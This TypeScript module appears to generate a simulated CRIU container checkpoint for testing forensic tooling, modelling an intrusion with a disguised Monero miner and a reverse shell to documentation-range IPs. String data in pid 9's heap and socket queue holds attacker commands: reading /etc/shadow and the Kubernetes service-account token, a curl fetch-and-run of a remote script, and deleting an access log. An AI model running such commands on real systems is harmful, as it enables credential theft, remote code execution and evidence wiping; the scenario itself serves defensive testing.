/**
 * The CRIU dump inside a simulated checkpoint: a small, realistic intrusion scenario, written as
 * CRIU 4.2 writes a container (the image set and shapes of the real CRI-O / containerd archives in
 * test/fixtures/real-checkpoints; test/sim-tests/archive-shape.test.ts compares them).
 *
 *   pid 1  sh        /bin/sh /app/entrypoint.sh        (the container's entrypoint; its heap is the padding)
 *   pid 7  kworkerd  /tmp/.x/kworkerd -o stratum+tcp://198.51.100.7:3333 …   (a static miner, threads 7 and 8,
 *                    fd 3 = TCP ESTABLISHED to 198.51.100.7:3333, fds 4/5 = a unix socketpair, fd 6 its config)
 *   pid 9  bash      bash -i                         (fds 0/1/2 = one TCP socket to 203.0.113.50:4444:
 *                    the classic reverse-shell indicator; the attacker's next command unread in its queue)
 *
 * Memory is laid out the way CRIU lays it out: mm-<pid>.img lists the VMAs (the executable's and
 * the libraries' segments, heap, vvar, vdso, stack, vsyscall) and mm_arg/env_start/end;
 * pagemap-<pid>.img starts with a head {pages_id} and lists the dumped runs in address order, in
 * CRIU 4.2's form (compat_nr_pages = 0, the count in nr_pages) with its flags: pages of private
 * anonymous mappings PE_LAZY | PE_PRESENT, written file-backed pages and the vdso PE_PRESENT
 * (criu/mem.c generate_iovs, vma_entry_can_be_lazy). pages-<pages_id>.img holds the runs back to
 * back in pagemap order, so the byte at virtual address A lives at (sum of nr_pages*4096 of earlier
 * runs) + (A - run.vaddr); argv/env strings really are at the top of the stack. pages_id counts from
 * 1 in dump order, so pages-1.img belongs to pid 1, whose heap carries the padding. Page contents
 * are AES-128-CTR keystream (deterministic per container and pid) with the strings patched in,
 * generated in 1 MiB chunks: memory use does not grow with the archive.
 */
import { createCipheriv, createHash } from 'node:crypto';
import { type ContainerIdentity } from './container-paths.js';
import { criuDumpLog } from './criu-dump-log.js';
import { fileEntry, fdType, openFlags, tcpStreamImage, type FileSpec } from './criu-files.js';
import { encodeImage, pagemapEntry, PAGE_SIZE, statsImage, type DumpStats } from './criu-images.js';
import { cgroupEntry, containerMounts, ipcVarEntry, netnsEntry, NS, ROOT_NS, seccompEntry, timensEntry, tmpfsTarballs, utsnsEntry } from './criu-namespaces.js';
import { coreEntry, savedAuxv } from './criu-task-images.js';
import { layout, type Layout } from './process-layout.js';
import type { ProtoMessage } from './protobuf.js';

export const MINER_POOL = { ip: '198.51.100.7', port: 3333 } as const;
export const REVERSE_SHELL = { ip: '203.0.113.50', port: 4444 } as const;
export const MINER_WALLET = '4' + 'AmberSimWa11etNotReal'.padEnd(94, 'x').slice(0, 94);
/** The smallest pages-1.img: pid 1's fixed runs (13 pages) and a few heap pages. */
export const MIN_PAGES_BYTES = 16 * PAGE_SIZE;
/** The miner's config: in its heap and, as tmp/.x/config.json, in rootfs-diff.tar. */
export const MINER_CONFIG = `{"autosave":true,"cpu":{"enabled":true,"max-threads-hint":100},"pools":[{"url":"${MINER_POOL.ip}:${MINER_POOL.port}","user":"${MINER_WALLET}","pass":"x","keepalive":true}]}`;
/** What the attacker typed into the reverse shell that bash has not read yet: in its socket's receive queue. */
export const REVERSE_SHELL_PENDING = 'cat /etc/shadow; ls -la /var/run/secrets/kubernetes.io/serviceaccount\n';

export interface DumpInput {
  /** Seeds the page contents (use the container id: same container → same pages). */
  seed: string;
  /** Size of pages-1.img (rounded up to whole pages, at least MIN_PAGES_BYTES). */
  pagesBytes: number;
  podName: string;
  podIP: string;
  /** Extra environment of the container (NAME=value), appended to pid 1's env. */
  env: string[];
  /** pid 1's argv (the container's command); default /bin/sh /app/entrypoint.sh. */
  argv?: string[];
  /** Time of the dump, ms since the epoch. */
  now: number;
  /** Where the container lives (cgroup, mounts); derived from `seed` and `podName` when absent. */
  container?: ContainerIdentity;
  /** pid 1's pid on the node (dump.log names host pids); the others follow it. */
  hostPid?: number;
}

export interface PagemapRun {
  vaddr: number;
  nrPages: number;
  offset: number;
}
export interface DumpedProcess {
  pid: number;
  comm: string;
  argv: string[];
  env: string[];
  pagesFile: string;
  pagesSize: number;
  pagemap: PagemapRun[];
  argStart: number;
  argEnd: number;
  envStart: number;
  envEnd: number;
}
export interface PagesFile {
  name: string;
  size: number;
  write(sink: ByteSink): Promise<void>;
}
export interface ByteSink {
  write(chunk: Buffer): boolean;
  once(event: 'drain', cb: () => void): unknown;
}
/** images + pages go into `checkpoint/`; statsDump is the top-level `stats-dump` and dumpLog `dump.log` (CRIU's work dir). */
export interface CriuDump {
  images: { name: string; data: Buffer }[];
  pages: PagesFile[];
  processes: DumpedProcess[];
  stats: DumpStats;
  statsDump: Buffer;
  dumpLog: Buffer;
}

const BASE_ENV = [
  'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
  'KUBERNETES_SERVICE_HOST=10.96.0.1',
  'KUBERNETES_SERVICE_PORT=443',
  'KUBERNETES_PORT=tcp://10.96.0.1:443',
  'HOME=/home/app',
];
const UID = 1000;

interface Proc {
  pid: number;
  ppid: number;
  pgid: number;
  sid: number;
  threads: number[];
  comm: string;
  argv: string[];
  env: string[];
  exe: string;
  libs: string[];
  cwd: string;
  heapPages: number;
  heapStrings: string[];
  /** fd → a key into the file specs; the same key in two processes is one shared (inherited) open file */
  fds: [fd: number, file: string][];
}

/**
 * The open files of the scenario, by key; a file's id in files.img is its place in this list + 1.
 * (CRIU numbers files in dump order; a fixed table keeps the ids stable for the reader's tests.)
 */
function fileSpecs(podIP: string, now: number): [string, FileSpec][] {
  const elf = (path: string, size: number): [string, FileSpec] => [path, { kind: 'reg', path, mode: 0o100755, size, mnt: 'root', elf: true }];
  const dir = (path: string): [string, FileSpec] => [path, { kind: 'reg', path, mode: path === '/tmp' ? 0o41777 : 0o40755, mnt: 'root' }];
  const ts = Math.floor(now / 1000) % 0xffffffff;
  return [
    elf('/usr/bin/dash', 125_560),
    elf('/usr/lib/x86_64-linux-gnu/libc.so.6', 1_922_136),
    elf('/tmp/.x/kworkerd', 49_152),
    elf('/usr/bin/bash', 1_265_648),
    dir('/'),
    dir('/app'),
    dir('/tmp/.x'),
    ['null', { kind: 'reg', path: '/dev/null', mode: 0o20666, flags: openFlags('rw'), mnt: 'dev' }],
    ['stdout', { kind: 'pipe', pipeId: 1_181_240, write: true }],
    [
      'pool',
      {
        kind: 'tcp',
        ino: 1_183_390,
        src: { ip: podIP, port: 48_212 },
        dst: MINER_POOL,
        stream: {
          inq: Buffer.from(`{"jsonrpc":"2.0","method":"job","params":{"blob":"0e0eb5d9b4c906","job_id":"731218","target":"b88d0600","algo":"rx/0"}}\n`),
          outq: Buffer.from(`{"id":4,"jsonrpc":"2.0","method":"submit","params":{"id":"1","job_id":"731217","nonce":"b4010000","result":"5f0c"}}\n`),
          inqSeq: 3_912_044_210,
          outqSeq: 2_204_118_907,
          timestamp: ts,
        },
      },
    ],
    ['pairA', { kind: 'unix', ino: 1_183_402, peer: 1_183_403 }],
    ['pairB', { kind: 'unix', ino: 1_183_403, peer: 1_183_402 }],
    [
      'config',
      {
        kind: 'reg',
        path: '/tmp/.x/config.json',
        mode: 0o100644,
        size: Buffer.byteLength(MINER_CONFIG),
        pos: Buffer.byteLength(MINER_CONFIG),
        flags: openFlags('r'),
        mnt: 'root',
      },
    ],
    [
      'shell',
      {
        kind: 'tcp',
        ino: 1_183_417,
        src: { ip: podIP, port: 51_876 },
        dst: REVERSE_SHELL,
        stream: {
          inq: Buffer.from(REVERSE_SHELL_PENDING),
          outq: Buffer.from('uid=1000(app) gid=1000(app) groups=1000(app)\n'),
          inqSeq: 1_024_334_738,
          outqSeq: 1_485_878_066,
          timestamp: ts,
        },
      },
    ],
    dir('/tmp'),
    ['stderr', { kind: 'pipe', pipeId: 1_181_241, write: true }],
    elf('/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', 210_968),
  ];
}

function processes(input: DumpInput): Proc[] {
  const podEnv = [...BASE_ENV, `HOSTNAME=${input.podName}`, ...input.env];
  const pid1Pages = Math.ceil(Math.max(input.pagesBytes, MIN_PAGES_BYTES) / PAGE_SIZE);
  const libs = ['/usr/lib/x86_64-linux-gnu/libc.so.6', '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2'];
  const std: [number, string][] = [
    [0, 'null'],
    [1, 'stdout'],
    [2, 'stderr'],
  ];
  const p1: Proc = {
    pid: 1,
    ppid: 0,
    pgid: 1,
    sid: 1,
    threads: [1],
    comm: 'sh',
    exe: '/usr/bin/dash',
    libs,
    argv: input.argv ?? ['/bin/sh', '/app/entrypoint.sh'],
    env: podEnv,
    cwd: '/app',
    heapPages: 0,
    fds: std,
    heapStrings: [`GET /healthz HTTP/1.1\r\nHost: ${input.podIP}:8080\r\nUser-Agent: kube-probe/1.31\r\nAccept: */*\r\n\r\n`],
  };
  p1.heapPages = pid1Pages - layout(p1, 0).fixedPages;
  return [
    p1,
    {
      pid: 7,
      ppid: 1,
      pgid: 1,
      sid: 1,
      threads: [7, 8],
      comm: 'kworkerd',
      exe: '/tmp/.x/kworkerd',
      libs: [],
      cwd: '/tmp/.x',
      heapPages: 48,
      argv: ['/tmp/.x/kworkerd', '-o', `stratum+tcp://${MINER_POOL.ip}:${MINER_POOL.port}`, '-u', MINER_WALLET, '-p', 'x', '--donate-level=0', '-t', '2'],
      env: [...BASE_ENV, `HOSTNAME=${input.podName}`, 'PWD=/tmp/.x', 'OLDPWD=/app'],
      fds: [...std, [3, 'pool'], [4, 'pairA'], [5, 'pairB'], [6, 'config']],
      heapStrings: [
        `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${MINER_WALLET}","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n`,
        MINER_CONFIG,
      ],
    },
    {
      pid: 9,
      ppid: 1,
      pgid: 9,
      sid: 1,
      threads: [9],
      comm: 'bash',
      exe: '/usr/bin/bash',
      libs,
      argv: ['bash', '-i'],
      cwd: '/tmp',
      heapPages: 24,
      env: [...BASE_ENV, `HOSTNAME=${input.podName}`, 'PWD=/tmp', 'SHELL=/bin/bash'],
      fds: [
        [0, 'shell'],
        [1, 'shell'],
        [2, 'shell'],
      ],
      heapStrings: [
        'id\nuname -a\ncat /var/run/secrets/kubernetes.io/serviceaccount/token\n',
        `curl -fsSL http://${MINER_POOL.ip}/x.sh -o /tmp/.x/x.sh && sh /tmp/.x/x.sh\nrm -f /var/log/app/access.log\n`,
      ],
    },
  ];
}

const CHUNK = 1 << 20;
const ZEROS = Buffer.alloc(CHUNK);

function pagesWriter(seed: string, pid: number, l: Layout): (sink: ByteSink) => Promise<void> {
  return async (sink) => {
    const key = createHash('sha256').update(`${seed}:${pid}`).digest().subarray(0, 16);
    const cipher = createCipheriv('aes-128-ctr', key, Buffer.alloc(16));
    for (let off = 0; off < l.size; off += CHUNK) {
      const n = Math.min(CHUNK, l.size - off);
      const chunk = cipher.update(ZEROS.subarray(0, n));
      for (const p of l.patches) {
        const from = Math.max(p.offset, off),
          to = Math.min(p.offset + p.bytes.length, off + n);
        if (from < to) p.bytes.copy(chunk, from - off, from - p.offset, to - p.offset);
      }
      if (!sink.write(chunk)) await new Promise<void>((resolve) => sink.once('drain', resolve));
    }
  };
}

function defaultContainer(input: DumpInput): ContainerIdentity {
  const hex = (what: string) => createHash('sha256').update(`${what}:${input.seed}`).digest('hex');
  const u = hex('uid');
  return {
    layout: 'containerd',
    namespace: 'default',
    pod: input.podName,
    container: 'app',
    containerId: hex('container'),
    sandboxId: hex('sandbox'),
    podUid: `${u.slice(0, 8)}-${u.slice(8, 12)}-4${u.slice(13, 16)}-8${u.slice(17, 20)}-${u.slice(20, 32)}`,
    restartCount: 0,
  };
}

export function buildCriuDump(input: DumpInput): CriuDump {
  const container = input.container ?? defaultContainer(input);
  const hostPid = input.hostPid ?? 4100 + (parseInt(createHash('sha256').update(input.seed).digest('hex').slice(0, 4), 16) % 20_000);
  const procs = processes(input);
  const mounts = containerMounts(container);
  const mnt = { root: mounts.find((m) => m.entry.mountpoint === '/')!.mntId, dev: mounts.find((m) => m.entry.mountpoint === '/dev')!.mntId };
  const images: { name: string; data: Buffer }[] = [];
  const pages: PagesFile[] = [];
  const out: DumpedProcess[] = [];
  const add = (name: string, entries: ProtoMessage[], extras?: Buffer[]) => images.push({ name, data: encodeImage(name, entries, extras) });

  const table = fileSpecs(input.podIP, input.now);
  const specs = Object.fromEntries(table);
  const ids = new Map(table.map(([key], i) => [key, i + 1]));
  const fileId = (key: string): number =>
    ids.get(key) ??
    (() => {
      throw new Error(`sim: no file ${key}`);
    })();
  add(
    'files.img',
    table.map(([, spec], i) => fileEntry(i + 1, spec, mnt, NS.net)),
  );

  let totalPages = 0;
  const fsIds: { cwd: number; root: number }[] = [];
  procs.forEach((p, i) => {
    const l = layout(p, i);
    const objId = i + 2,
      pagesId = i + 1;
    const mapped = new Map([p.exe, ...p.libs].map((path) => [path, fileId(path)]));
    const fdinfo = p.fds.map(([fd, key]) => ({ id: fileId(key), flags: 0, type: fdType(specs[key]!), fd }));
    const cwd = fileId(p.cwd),
      root = fileId('/');
    fsIds.push({ cwd, root });
    const kobj = {
      vm_id: objId,
      files_id: objId,
      fs_id: objId,
      sighand_id: objId,
      pid_ns_id: NS.pid,
      net_ns_id: NS.net,
      ipc_ns_id: NS.ipc,
      uts_ns_id: NS.uts,
      mnt_ns_id: NS.mnt,
      user_ns_id: NS.user,
      cgroup_ns_id: NS.cgroup,
      time_ns_id: NS.time,
    };
    p.threads.forEach((tid, t) => {
      const leader = tid === p.pid;
      add(`core-${tid}.img`, [
        coreEntry({
          tid,
          comm: p.comm,
          uid: UID,
          clearTidAddr: l.tlsBase + 0x2d0 + t * 0x1000,
          futexRla: l.tlsBase + 0x2e0 + t * 0x1000,
          rseqAbi: l.tlsBase + 0x900 + t * 0x1000,
          regs: {
            ip: l.syscallIp,
            sp: l.sp - t * 0x8000,
            ax: -512,
            origAx: leader ? (p.pid === 7 ? 202 : 61) : 202,
            bp: 0,
            di: leader ? -1 : l.tlsBase,
            si: l.sp + 0x40,
            dx: 0,
            fsBase: l.tlsBase + t * 0x1000,
          },
          task: leader
            ? {
                flags: p.pid === 1 ? 0x400100 : 0x400040,
                blkSigset: 0,
                oomScoreAdj: 1000,
                restorer: l.restorer,
                handlers:
                  p.pid === 7
                    ? { 13: { handler: 1, mask: 0 } }
                    : { 2: { handler: l.handler, mask: 0 }, 17: { handler: l.handler, mask: 0 }, 15: { handler: l.handler, mask: 0 } },
              }
            : undefined,
        }),
      ]);
    });
    add(`ids-${p.pid}.img`, [kobj]);
    add(`fs-${p.pid}.img`, [{ cwd_id: cwd, root_id: root, umask: 0o22 }]);
    add(`fdinfo-${objId}.img`, fdinfo);
    add(`mm-${p.pid}.img`, [
      {
        mm_start_code: l.startCode,
        mm_end_code: l.endCode,
        mm_start_data: l.startData,
        mm_end_data: l.endData,
        mm_start_stack: l.sp + 0x40,
        mm_start_brk: l.startBrk,
        mm_brk: l.brk,
        mm_arg_start: l.argStart,
        mm_arg_end: l.argEnd,
        mm_env_start: l.envStart,
        mm_env_end: l.envEnd,
        exe_file_id: mapped.get(p.exe)!,
        mm_saved_auxv: savedAuxv({
          vdso: l.vdso,
          phdr: l.exeBase + 64,
          entry: l.startCode + 0x3c0,
          base: p.libs.length ? l.ldBase : 0,
          uid: UID,
          random: l.argStart - 0x40,
          execfn: l.argEnd + (l.envEnd - l.envStart),
          platform: l.argStart - 0x30,
        }),
        vmas: l.vmas.map((v) => ({ ...v, shmid: v.file ? mapped.get(v.file)! : 0, file: undefined })),
        dumpable: 1,
        thp_disabled: false,
      },
    ]);
    add(`pagemap-${p.pid}.img`, [{ pages_id: pagesId }, ...l.runs.map((r) => pagemapEntry(r.vaddr, r.nrPages, r.flags, 'criu-4.2'))]);
    pages.push({ name: `pages-${pagesId}.img`, size: l.size, write: pagesWriter(input.seed, p.pid, l) });
    totalPages += l.size / PAGE_SIZE;
    out.push({
      pid: p.pid,
      comm: p.comm,
      argv: p.argv,
      env: p.env,
      pagesFile: `pages-${pagesId}.img`,
      pagesSize: l.size,
      pagemap: l.runs.map((r) => ({ vaddr: r.vaddr, nrPages: r.nrPages, offset: r.offset })),
      argStart: l.argStart,
      argEnd: l.argEnd,
      envStart: l.envStart,
      envEnd: l.envEnd,
    });
  });

  add(
    'pstree.img',
    procs.map((p) => ({ pid: p.pid, ppid: p.ppid, pgid: p.pgid, sid: p.sid, threads: p.threads })),
  );
  for (const key of ['pool', 'shell']) {
    const s = specs[key]!;
    if (s.kind !== 'tcp') continue;
    const { entry, extra } = tcpStreamImage(s.stream);
    add(`tcp-stream-${s.ino.toString(16)}.img`, [entry], [extra]);
  }
  const uptimeMs = 8_640_000 + (input.now % 86_400_000);
  add('inventory.img', [
    {
      img_version: 2,
      fdinfo_per_id: true,
      root_ids: {
        vm_id: 1,
        files_id: 1,
        fs_id: 1,
        sighand_id: 1,
        pid_ns_id: ROOT_NS.pid,
        net_ns_id: ROOT_NS.net,
        ipc_ns_id: ROOT_NS.ipc,
        uts_ns_id: ROOT_NS.uts,
        mnt_ns_id: ROOT_NS.mnt,
        user_ns_id: ROOT_NS.user,
        cgroup_ns_id: ROOT_NS.cgroup,
        time_ns_id: ROOT_NS.time,
      },
      ns_per_id: true,
      root_cg_set: 1,
      lsmtype: 'NO_LSM',
      network_lock_method: 0,
      plugins_entry: {},
      dump_criu_run_id: runId(input, 'dump'),
    },
  ]);
  add('cgroup.img', [cgroupEntry(container)]);
  add(
    `mountpoints-${NS.mnt}.img`,
    mounts.map((m) => m.entry),
  );
  add(`netns-${NS.net}.img`, [netnsEntry()]);
  add(`ipcns-var-${NS.ipc}.img`, [ipcVarEntry()]);
  add(`utsns-${NS.uts}.img`, [utsnsEntry(input.podName)]);
  add('timens-0.img', [timensEntry(uptimeMs)]);
  add('seccomp.img', [seccompEntry()]);
  images.push(...tmpfsTarballs(mounts, input.now));
  // Not a CRIU image: runc records where the init process' stdio pointed, for restore.
  const pipe = (k: string) => `pipe:[${(specs[k] as { pipeId: number }).pipeId}]`;
  images.push({ name: 'descriptors.json', data: Buffer.from(JSON.stringify(['/dev/null', pipe('stdout'), pipe('stderr')])) });

  const memwrite = Math.round((totalPages * PAGE_SIZE) / 1400); // ~1.4 GB/s, in µs
  const stats: DumpStats = {
    freezingTime: 611,
    frozenTime: 0,
    memdumpTime: 900 + Math.round(totalPages / 8),
    memwriteTime: memwrite,
    pagesScanned: totalPages * 3 + 4096,
    pagesSkippedParent: 0,
    pagesWritten: totalPages,
    irmapResolve: 0,
    pagesLazy: 0,
    pagePipes: procs.length,
    pagePipeBufs: procs.length + Math.floor(totalPages / 16384),
    shpagesScanned: 0,
    shpagesSkippedParent: 0,
    shpagesWritten: 0,
  };
  stats.frozenTime = stats.freezingTime + stats.memdumpTime + stats.memwriteTime + 14_250;
  images.sort((a, b) => (a.name < b.name ? -1 : 1));
  const dumpLog = criuDumpLog({
    runIds: [runId(input, 'rpc'), runId(input, 'dump')],
    container,
    now: input.now,
    tasks: procs.map((p, i) => ({
      pid: p.pid,
      hostPid: hostPid + (i === 0 ? 0 : p.pid * 3),
      comm: p.comm,
      cwdId: fsIds[i]!.cwd,
      rootId: fsIds[i]!.root,
      fds: p.fds.map(([fd, key]) => ({ fd, spec: specs[key]! })),
    })),
  });
  return { images, pages, processes: out, stats, statsDump: statsImage(stats), dumpLog };
}

/** A CRIU run id (a v4 UUID), stable per dump. */
function runId(input: DumpInput, what: string): string {
  const h = createHash('sha256').update(`${what}:${input.seed}:${input.now}`).digest('hex');
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-8${h.slice(17, 20)}-${h.slice(20, 32)}`;
}
